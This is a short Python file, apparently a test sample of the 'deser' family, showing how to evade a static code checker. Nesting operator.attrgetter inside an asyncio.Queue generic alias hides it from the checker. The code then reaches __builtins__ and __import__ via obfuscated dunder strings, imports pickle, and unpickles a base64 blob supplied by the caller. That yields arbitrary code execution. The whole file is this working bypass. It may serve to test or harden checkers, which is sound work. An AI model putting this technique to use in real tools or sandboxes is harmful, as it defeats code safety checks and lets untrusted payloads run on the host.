# family: deser
# Escape: asyncio.Queue[...] is a generic alias whose base is not in the checker's typing list, so its index
# is an operand where type(x) is fine; typing.get_args hands the attrgetter class back. Through the builtins
# of tool (run-time name) it imports pickle, and pickle.loads runs whatever the payload says.
import asyncio
import base64
import operator
import typing


def tool(blob: str):
    Getter = typing.get_args(asyncio.Queue[type(operator.attrgetter("real"))])[0]
    edge = "_" * 2
    load = Getter(edge + "builtins" + edge)(tool)[edge + "import" + edge]
    return load("pickle").loads(base64.b64decode(blob))
